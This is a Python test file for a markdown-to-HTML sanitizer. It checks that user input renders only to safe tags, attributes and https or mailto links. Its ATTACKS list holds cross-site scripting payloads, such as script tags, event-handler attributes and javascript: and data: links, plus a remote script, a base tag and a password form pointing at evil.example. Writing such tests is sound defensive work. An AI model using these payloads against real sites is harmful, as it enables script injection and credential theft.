"""Markdown of people becomes HTML that can do nothing but be read."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from integrations import markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<b style=\"background:url('javascript:alert(1)')\">x</b>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/p/secret)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    '<https://a.example/?"onclick=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
]


class Seen(HTMLParser):
    """The elements and attributes of a piece of HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {f"{tag} {name}" for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


ALLOWED = {"a href", "a title", "a rel", "a target", "ol start"}


def is_harmless(html: str) -> bool:
    seen = Seen(html)
    are_good = all(re.match(r"https:|mailto:", link, re.IGNORECASE) for link in seen.links)
    return seen.tags <= markdown.TAGS and seen.attributes <= ALLOWED and are_good


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_text_at_most(attack: str) -> None:
    assert is_harmless(markdown.from_people(attack))


@given(
    st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "**", "[", "](", ")", "`", "<", ">", "&", "x", " "])).map("".join)
)
def test_no_mixture_of_attacks_does_harm(text: str) -> None:
    assert is_harmless(markdown.from_people(text))


@given(st.text())
def test_no_text_at_all_does_harm(text: str) -> None:
    assert is_harmless(markdown.from_people(text))


def test_raw_html_is_shown_as_the_text_that_it_is() -> None:
    assert markdown.from_people("<b>bold?</b>") == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>\n"


def test_headings_begin_below_those_of_the_page() -> None:
    html = markdown.from_people("# One\n\n## Two\n\n###### Six")

    assert re.findall(r"<(h\d)>", html) == ["h3", "h4", "h6"]


def test_a_link_opens_elsewhere_and_tells_nothing_of_where_it_was() -> None:
    html = markdown.from_people("[docs](https://docs.example/a?b=1&c=2)")

    assert 'href="https://docs.example/a?b=1&amp;c=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_what_people_write_with_is_there() -> None:
    html = markdown.from_people("1. **one**\n2. *two*\n\n> said\n\n- `code`\n\n[mail](mailto:a@b.example)")

    assert {"ol", "li", "strong", "em", "blockquote", "ul", "code", "a"} <= Seen(html).tags
